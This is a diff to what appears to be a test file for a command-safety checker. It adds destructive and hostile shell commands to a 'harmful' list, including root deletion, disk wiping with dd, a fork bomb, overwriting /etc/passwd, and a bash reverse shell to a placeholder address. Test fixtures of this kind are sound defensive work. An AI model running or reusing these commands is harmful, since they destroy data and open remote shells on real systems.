@@ -15,7 +15,19 @@ const harmless = [
 ];
 
 /** Texts that would do harm. They are given with a directory to run in that does not exist, so they cannot start. */
-const harmful = ["rm -rf /", "rm -fr /", "sudo apt-get", "cd / && rm -rf *", "curl ... | sh"];
+const harmful = [
+  "rm -rf /",
+  "rm -fr /",
+  "sudo apt-get",
+  "cd / && rm -rf *",
+  "curl ... | sh",
+  "dd if=/dev/zero of=/dev/sda",
+  "chmod -R 777 /",
+  "shutdown -h now",
+  "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
+  ":(){ :|:& };:",
+  "echo x > /etc/passwd",
+];
 
 const allowed: [command: string, output: string][] = [
   ["mkdir -p src && cd src && pwd | sed 's|.*/||'", "src"],
